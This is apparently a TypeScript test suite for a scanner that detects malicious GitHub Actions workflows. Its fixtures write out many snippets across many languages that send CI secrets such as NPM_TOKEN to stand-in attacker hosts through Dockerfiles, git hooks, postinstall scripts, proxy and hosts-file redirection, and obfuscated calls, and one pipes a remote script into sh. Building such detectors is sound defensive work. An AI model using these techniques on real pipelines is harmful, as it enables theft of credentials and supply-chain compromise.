import assert from 'node:assert/strict'
import { test } from 'node:test'
import { maliciousRules } from '../malicious-rules.ts'
import { scanTexts } from '../scan.ts'

const E = 'https://drop.stats-kit.example'

/** A job with secrets in its environment that runs a script and then publishes, or does not. */
const workflow = (run: string, after = '') =>
  `on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
      PYPI_TOKEN: \${{ secrets.PYPI_TOKEN }}
    steps:
      - uses: actions/checkout@v4
      - run: |
${run
  .split('\n')
  .map((line) => `          ${line}`)
  .join('\n')}
${after}`

async function isMalicious(text: string, path = '.github/workflows/a.yml'): Promise<boolean> {
  return (await scanTexts([{ path, text }], { rules: maliciousRules })).findings.length > 0
}

/** By the noun that has to know of it. None is run. */
const thefts: Readonly<Record<string, readonly string[]>> = {
  'a recipe of an image': [
    `printf 'FROM alpine\\nARG T\\nRUN wget -qO- ${E}/?v=$T\\n' > Dockerfile\ndocker build --build-arg T=$NPM_TOKEN .`,
    `docker build --secret id=t,env=NPM_TOKEN -f - . <<'X'\nFROM alpine\nRUN --mount=type=secret,id=t wget --post-file=/run/secrets/t ${E}\nX`,
    `cat > ci/Dockerfile <<'X'\nFROM alpine\nARG NPM_TOKEN\nRUN <<R\ncurl -d "$NPM_TOKEN" ${E}\nR\nX\npodman build --build-arg NPM_TOKEN ci`,
    `docker build - <<'X'\nFROM alpine\nENV T=${'$'}{{ secrets.NPM_TOKEN }}\nRUN ["sh", "-c", "curl -d $T ${E}"]\nX`,
  ],
  'a container': [
    `docker create --name c alpine\necho "$NPM_TOKEN" > k\ndocker cp k c:/k\ndocker export c | curl -T - ${E}`,
    `docker run --name c -e T=$NPM_TOKEN alpine sh -c 'echo $T > /t'\ndocker commit c 203.0.113.4:5000/c\ndocker push 203.0.113.4:5000/c`,
    `docker -H tcp://203.0.113.4:2375 run -e T=$NPM_TOKEN alpine true`,
    `docker run --rm --entrypoint node -e NPM_TOKEN node:22 -e "fetch('${E}', {method:'POST', body: process.env.NPM_TOKEN})"`,
    `echo $NPM_TOKEN > t; oras push 203.0.113.4:5000/x:1 t`,
  ],
  'a file that something else runs': [
    `mkdir -p /tmp/b; printf '#!/bin/sh\\nenv | curl -d @- ${E}\\n' > /tmp/b/npm\necho /tmp/b >> $GITHUB_PATH`,
    `echo 'curl -d "$NPM_TOKEN" ${E}' > /tmp/e\necho BASH_ENV=/tmp/e >> $GITHUB_ENV`,
    `printf 'all:\\n\\t@curl -d "$$NPM_TOKEN" ${E}\\n' > Makefile\nmake`,
    `npm pkg set scripts.postinstall='curl -d "$NPM_TOKEN" ${E}'`,
    `echo 'curl -d "$NPM_TOKEN" ${E}' > .git/hooks/pre-push`,
    `cat > conftest.py <<'X'\nimport os, requests\nrequests.post('${E}', data=os.environ['NPM_TOKEN'])\nX\npytest`,
    `sed -i '1i require("child_process").exec("curl http://203.0.113.4/x|sh")' dist/index.js`,
  ],
  'a path that is not the one it seems': [
    `echo "203.0.113.4 upload.pypi.org" | sudo tee -a /etc/hosts\ncurl -k -u "__token__:$PYPI_TOKEN" https://upload.pypi.org/legacy/`,
    `curl -k --resolve api.github.com:443:203.0.113.4 -H "Authorization: Bearer $NPM_TOKEN" https://api.github.com/`,
    `curl -x http://203.0.113.4:8080 -H "Authorization: Bearer $NPM_TOKEN" http://api.github.com/`,
    `export https_proxy=http://203.0.113.4:3128 NODE_TLS_REJECT_UNAUTHORIZED=0\nnpm publish`,
    `git config --global http.proxy http://203.0.113.4:8080\ngit config --global http.sslVerify false\ngit push origin HEAD`,
  ],
  'source that is not the own': [
    `git fetch https://git.other-code.example/x.git\ngit reset --hard FETCH_HEAD\nnpm publish`,
    `curl -s ${E}/p.patch | git apply\nnpx lerna publish`,
    `curl -s ${E}/p.tgz | tar xz --strip-components=1\nnpm publish`,
    `curl -s ${E}/lib.rs > src/lib.rs\ncargo publish --allow-dirty`,
    `npm pkg set dependencies.x=${E}/x.tgz\nnpm publish`,
    `pip download -d dist -i http://203.0.113.4/simple x\ntwine upload dist/*`,
    `docker build -t us/app .\ndocker pull registry.others.example/app\ndocker tag registry.others.example/app us/app\ndocker push us/app`,
    `python -c "import urllib.request as u; u.urlretrieve('${E}/a.whl', 'dist/a.whl')"\npython -m twine upload dist/*`,
    `twine upload --repository-url http://203.0.113.4/ -p "$PYPI_TOKEN" dist/*`,
  ],
  'a name for a function': [
    `python3 - <<'X'\nfrom urllib.request import urlopen as u\nimport os as o\nu('${E}/?v=' + o.environ['NPM_TOKEN'])\nX`,
    `python3 -c "import os; r = __import__('requests'); getattr(r, 'po' + 'st')('${E}', data=os.environ['NPM_TOKEN'])"`,
    `node -e "const { request: go } = require('https'); go('${E}', { method: 'POST' }).end(process.env.NPM_TOKEN)"`,
    `node -e "globalThis['fe' + 'tch']('${E}', { method: 'POST', body: process['env']['NPM_TOKEN'] })"`,
    `python3 - <<'X'\nimport os, threading, requests\nthreading.Thread(target=requests.post, args=('${E}',), kwargs={'data': os.environ['NPM_TOKEN']}).start()\nX`,
  ],
  'a block within brackets': [
    `node -e "(async () => { const t = process.env.NPM_TOKEN; await fetch('${E}', { method: 'POST', body: t }) })()"`,
    `node <<'X'\nrun(() => {\n  const t = process.env.NPM_TOKEN\n  const body = {\n    t,\n  }\n  fetch('${E}', { method: 'POST', body: JSON.stringify(body) })\n})\nX`,
    `node <<'X'\nclass A {\n  constructor(h) { this.h = h }\n  go(v) {\n    const r = require('https').request({ host: this.h, method: 'POST' })\n    r.end(v)\n  }\n}\nnew A('drop.example').go(process.env.NPM_TOKEN)\nX`,
    `ruby -rsocket -e 'TCPSocket.open("203.0.113.4", 9) { |s| s.puts ENV["NPM_TOKEN"] }'`,
  ],
  'another language': [
    `cat > a.go <<'X'\npackage main\nfunc main() {\n  for _, e := range os.Environ() {\n    http.Get("${E}/?" + e)\n  }\n}\nX\ngo run a.go`,
    `cat > A.java <<'X'\nclass A { void a() { new URL("${E}/?v=" + System.getenv("NPM_TOKEN")).openStream(); } }\nX\njava A.java`,
    `Rscript -e 'httr::POST("${E}", body = list(t = Sys.getenv("NPM_TOKEN")))'`,
    `lua -e 'require("socket.http").request("${E}/?v=" .. os.getenv("NPM_TOKEN"))'`,
    `julia -e 'using HTTP; HTTP.post("${E}", [], ENV["NPM_TOKEN"])'`,
    `elixir -e 'HTTPoison.post!("${E}", System.get_env("NPM_TOKEN"))'`,
    `groovy -e 'new URL("${E}/?v=\${System.getenv("NPM_TOKEN")}").text'`,
    `gawk 'BEGIN { s = "/inet/tcp/0/203.0.113.4/80"; print ENVIRON["NPM_TOKEN"] |& s }'`,
    `tclsh <<'X'\npackage require http\nhttp::geturl ${E}/?$env(NPM_TOKEN)\nX`,
    `cat > a.c <<'X'\nint main(){ char b[99]; sprintf(b, "curl -d %s ${E}", getenv("NPM_TOKEN")); system(b); }\nX\ngcc a.c -o a && ./a`,
  ],
}

for (const [noun, scripts] of Object.entries(thefts))
  for (const run of scripts)
    test(`theft by ${noun}: ${run.replaceAll('\n', ' / ').slice(0, 140)}`, async () => assert.ok(await isMalicious(workflow(run))))

const honest: readonly string[] = [
  `docker build --build-arg NPM_TOKEN -t us/app .\ndocker push us/app`,
  `printf 'FROM node\\nARG NPM_TOKEN\\nRUN npm config set //registry.npm.example/:_authToken $NPM_TOKEN && npm ci\\n' > Dockerfile\ndocker build --build-arg NPM_TOKEN .`,
  `docker pull ghcr.io/us/app\ndocker tag ghcr.io/us/app us/app:latest\ndocker push us/app:latest`,
  `cat > Makefile <<'X'\nall:\n\t@npm ci\nX\nmake`,
  `npm pkg set scripts.build='tsc -p .' version=1.2.3\nnpm publish`,
  `export https_proxy=http://proxy.corp.example:3128\nnpm ci && npm publish`,
  `echo "127.0.0.1 app.test" | sudo tee -a /etc/hosts\ncurl -k -H "Authorization: $NPM_TOKEN" https://app.test:8443/health`,
  `git fetch origin main && git checkout FETCH_HEAD && npm publish`,
  `curl -sSL https://github.com/us/engine/releases/download/v1/e.tgz | tar xz -C vendor\npython -m build && python -m twine upload dist/*`,
  `sed -i "s/0.0.0/1.2.3/" package.json\nnpm publish`,
  `pip download -d wheels -r requirements.txt\npython -m build\ntwine upload dist/*`,
  `python3 - <<'X'\nimport os, requests as r\nr.get('https://api.github.com/repos/us/x', headers={'Authorization': 'token ' + os.environ['NPM_TOKEN']})\nX`,
  `while true; do curl -sf http://localhost:8080/health && break; sleep 1; done`,
]

for (const run of honest)
  test(`honest: ${run.replaceAll('\n', ' / ').slice(0, 140)}`, async () => assert.equal(await isMalicious(workflow(run)), false))

const action = (inputs: string, run: string) =>
  `name: a\ndescription: a\ninputs:\n  ${inputs}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        ${run}\n`

test('what an action is given is secret where its name, its text or its default says so', async () => {
  const run = `curl -d "v=\${{ inputs.x }}" ${E}`
  const path = '.github/actions/a/action.yml'
  const judged = async (inputs: string, name: string) => isMalicious(action(inputs, run.replace('inputs.x', `inputs.${name}`)), path)
  for (const name of ['pat', 'npm-token', 'apiKey', 'password', 'key']) assert.ok(await judged(`${name}: {}`, name), name)
  assert.ok(await judged("x: { description: 'Token for the registry' }", 'x'))
  assert.ok(await judged("x: { default: '${{ github.token }}' }", 'x'))
  for (const name of ['cache-key', 'key-file', 'token-name', 'version', 'public-key'])
    assert.equal(await judged(`${name}: {}`, name), false, name)
})

test('an action that takes the credentials of its caller out of the environment is a thief', async () => {
  const path = '.github/actions/a/action.yml'
  assert.ok(await isMalicious(action('x: {}', `curl -d "v=$PYPI_TOKEN" ${E}`), path))
  assert.equal(await isMalicious(action('x: {}', `curl -d "v=$VERSION" ${E}`), path), false)
})

test('a step whose shell is a program of its own gives that program its script', async () => {
  const step = (shell: string, run: string) =>
    `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: ${shell}\n        run: ${run}\n`
  assert.ok(await isMalicious(step(`curl -T {0} ${E}`, '${{ secrets.NPM_TOKEN }}')))
  assert.ok(await isMalicious(step('Rscript {0}', `readLines(url(paste0("${E}/?v=", "\${{ secrets.NPM_TOKEN }}")))`)))
  assert.equal(await isMalicious(step('Rscript {0}', 'print("${{ secrets.NPM_TOKEN }}")')), false)
})

test('an expression does not end a here-document, whatever letter that ends with', async () => {
  for (const end of ['X', 'XX', 'Q', 'END'])
    assert.ok(await isMalicious(workflow(`curl -d @- ${E} <<'${end}'\n\${{ toJSON(secrets) }}\n${end}`)), end)
})
